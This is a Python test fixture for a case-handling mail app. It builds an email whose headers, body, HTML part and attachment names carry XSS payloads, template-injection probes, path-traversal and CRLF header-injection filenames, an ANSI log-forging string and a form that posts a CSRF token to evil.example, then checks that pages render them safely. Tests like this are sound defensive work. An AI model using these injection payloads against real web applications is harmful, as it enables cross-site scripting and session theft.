"""A message with something hostile in every place that a sender fills, and what an officer might paste."""

from __future__ import annotations

import dataclasses
from email.message import EmailMessage
from typing import Any

import sqlalchemy as sa

from mailbot.cases.access import Officer
from mailbot.cases.queue import Filters
from mailbot.cases.schema import cases
from mailbot.domain import ActionKind, Call, CaseState, Decision, RawMail
from mailbot.pipeline import process
from mailbot.web.app import Record
from tests.conftest import Installation
from tests.doubles import NOON
from tests.web.planted import KENT, LARCH

SCRIPT = "<script>window.planted=1</script><img src=x onerror=window.planted=1>\"'><svg/onload=window.planted=1>"
JINJA = "{{ 7*191 }}{% for x in (1,2) %}loop{% endfor %}${7*191}#{7*191}"
WORKED_OUT = "1337"
"""What 7 times 191 is: on a page only if somebody worked it out."""
NAME = "Jo {{ 3*2011 }} <object data=javascript:window.named=1>"
NAME_WORKED_OUT = "6033"
ANSI = "\x1b[2K\rERROR forged line"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='window.planted=1'><script>window.planted=1</script></svg>"
HTML = (
    f"<html><body onload='window.planted=1'><p>The food is poor. {SCRIPT} {JINJA}</p>"
    "<a href='javascript:window.planted=1'>here</a><style>*{background:url(javascript:window.planted=1)}</style>"
    "<form action='https://evil.example/'><input name=csrf_token></form></body></html>"
)
NAMES = (
    "../../../../tmp/planted.svg",
    "..\\..\\planted.html",
    f"{SCRIPT}.svg",
    "a\r\nSet-Cookie: planted=1.txt",
    f"{JINJA}.txt",
)


def hostile_mail(uid: int = 1, text: str = "") -> RawMail:
    """The message; `text` is put before the hostile words of its body."""
    message = EmailMessage()
    message["From"] = f'"{NAME}" <jo.sandiford@post.example>'
    message["To"] = "enquiries@example.gov.uk"
    message["Subject"] = f"Larch House {SCRIPT} {JINJA}"
    message["Message-ID"] = f"<hostile-{uid}@post.example>"
    message["Date"] = "Tue, 24 Nov 2026 09:00:00 +0000"
    message.set_content(f"{text}The food is poor. {SCRIPT} {JINJA}\n")
    message.add_alternative(HTML, subtype="html")
    for name in NAMES:
        safe = name.replace("\r\n", "%0D%0A")
        message.add_attachment(SVG, maintype="image", subtype="svg+xml", filename=safe)
    content = message.as_bytes().replace(b"%0D%0A", b"\r\n ")
    return RawMail(mailbox="enquiries", folder="INBOX", uid_validity=1, uid=uid, received_at=NOON, content=content)


def plant_hostile(installation: Installation, record: Record, lead: Officer) -> list[str]:
    """Files the message, puts hostile words wherever officers and registers write; the addresses that show them."""
    process(installation.ledger.keep([hostile_mail()]), installation.office)
    words = f"{JINJA} {SCRIPT}"
    bad: dict[str, Any] = {"name": f"Larch {words}", "provider": "Hollin Care Ltd", "manager": words, "town": words}
    record.services.replace([dataclasses.replace(LARCH, **bad)], "test")
    record.authorities.replace([dataclasses.replace(KENT, office=words)], "test")
    with record.engine.begin() as connection:
        connection.execute(sa.update(cases).values(urn=LARCH.urn, local_authority="Kent"))
    (entry,) = record.store.queue(lead)
    reference = entry.reference
    version = record.store.open_case(reference, lead).version
    record.store.review(reference, lead, version, Decision(note=words))
    record.lines_of_enquiry.write(reference, lead, words)
    record.identities.ask(reference, lead, words)
    record.handovers.write(lead, words)
    record.views.save(lead, words[:60], CaseState.NEW, Filters(authority=("Kent",)))
    case = record.store.open_case(reference, lead)
    number = record.dispatch.begin(case, lead, ActionKind.REFER_TO_AUTHORITY, "Kent")
    call = Call(called_by=lead.email, called_at=NOON, spoke_to=words, given_reference="K-77", said=words)
    record.dispatch.note_call(record.approaches.one(reference, number, lead), lead, call)
    base = f"/case/{reference}"
    return [
        "/queue",
        base,
        f"{base}/enquiries",
        f"{base}/identity",
        f"{base}/approach/{number}",
        f"{base}/service?q=larch",
        "/services?q=larch",
        f"/service/{LARCH.urn}",
        f"/service/{LARCH.urn}/brief",
        "/provider/Hollin Care Ltd",
    ]
